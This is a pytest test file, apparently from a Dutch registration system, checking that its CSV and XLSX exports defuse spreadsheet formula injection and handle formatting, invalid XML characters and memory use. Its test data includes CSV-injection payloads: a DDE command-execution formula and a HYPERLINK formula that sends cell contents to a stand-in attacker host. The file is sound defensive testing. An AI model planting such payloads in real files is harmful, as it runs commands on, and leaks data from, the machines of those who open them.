"""Lists as files: nothing that people typed becomes a formula, whatever program opens the file."""

import csv
import tracemalloc
import unicodedata
from datetime import datetime
from io import BytesIO

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from registrations.sheets import safe_text, write_csv
from registrations.xlsx import write_xlsx

FORMULAS = [
    "=1+1",
    "+31 6 12345678",
    "-2",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u00a0=1+1",
    "\u3000=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    "\u2212 1",
    "=cmd|'/c calc'!A1",
    "|calc",
    '=HYPERLINK("https://kwaad.example.nl?"&A1;"klik")',
]
HARMLESS = ["Sanne", "O'Brien", "a=b", "1-2-3", "naam@example.nl", "Gemeente 's-Hertogenbosch", "", "Ünal", "e\u0301"]


def read_csv(file: BytesIO) -> list[list[str]]:
    return list(csv.reader(file.getvalue().decode("utf-8-sig").splitlines(keepends=True), delimiter=";"))


@pytest.mark.parametrize("text", FORMULAS)
def test_what_could_begin_a_formula_gets_a_quote_in_front(text):
    assert safe_text(text) == f"'{text}"


@pytest.mark.parametrize("text", HARMLESS)
def test_other_text_stays_as_it_is(text):
    assert safe_text(text) == text


@given(st.text(st.characters(exclude_categories=["Cs"]), max_size=20))
def test_no_text_at_all_begins_like_a_formula(text):
    plain = unicodedata.normalize("NFKC", safe_text(text)).lstrip()
    assert not plain.startswith(("=", "+", "-", "@"))


@pytest.mark.parametrize("write", [write_csv, lambda *given: write_xlsx(*given, sheet="Blad")])
def test_both_files_hold_the_quoted_text_also_in_a_heading(write):
    file = BytesIO()
    assert write(file, ["=vraag", "b"], [[text, 1] for text in FORMULAS]) == len(FORMULAS)
    if write is write_csv:
        rows = read_csv(file)
        assert rows[0] == ["'=vraag", "b"]
        assert [row[0] for row in rows[1:] if row] != []
        assert file.getvalue().decode("utf-8-sig").count("\"'") == len(FORMULAS) + 1
    else:
        cells = [row[0] for row in load_workbook(file).active.iter_rows()]
        assert {cell.data_type for cell in cells} == {"s"}
        assert all(cell.value.startswith("'") for cell in cells)


def test_a_separator_or_a_quote_begins_no_cell_of_its_own():
    file = BytesIO()
    write_csv(file, ["a", "b"], [['x";=1+1;"', "rest"]])
    assert read_csv(file)[1] == ['x";=1+1;"', "rest"]


def test_the_csv_is_what_the_dutch_excel_expects():
    file = BytesIO()
    write_csv(file, ["Naam", "Wanneer"], [["Zoë", datetime(2027, 5, 27, 9, 30)], [None, None]])
    assert file.getvalue() == '\ufeff"Naam";"Wanneer"\r\n"Zoë";"27-05-2027 09:30"\r\n"";""\r\n'.encode()


def test_the_xlsx_has_moments_numbers_a_filter_and_a_heading_that_stays():
    file = BytesIO()
    assert write_xlsx(file, ["Naam", "Wanneer"], [["Zoë", datetime(2027, 5, 27, 9, 30)]], sheet="Mensen") == 1
    sheet = load_workbook(file)["Mensen"]
    assert (sheet["A2"].value, sheet["B2"].value) == ("Zoë", datetime(2027, 5, 27, 9, 30))
    assert (sheet.freeze_panes, sheet.auto_filter.ref, sheet["A1"].font.bold) == ("A2", "A1:B2", True)


def test_signs_that_xml_can_not_hold_do_not_break_the_file():
    file = BytesIO()
    write_xlsx(file, ["a"], [["Jan\x00\x0b\ufffe"]], sheet="Blad")
    assert load_workbook(file).active["A2"].value == "Jan"


@pytest.mark.parametrize("write", [write_csv, lambda *given: write_xlsx(*given, sheet="Blad")])
def test_rows_are_not_gathered_in_memory(write, tmp_path):
    def most(number: int) -> int:
        rows = ([f"Deelnemer {one}", "x" * 500] for one in range(number))
        tracemalloc.start()
        with (tmp_path / "lijst").open("w+b") as file:
            assert write(file, ["a", "b"], rows) == number
        peak = tracemalloc.get_traced_memory()[1]
        tracemalloc.stop()
        return peak

    most(10)
    assert most(5_000) < most(500) + 500_000
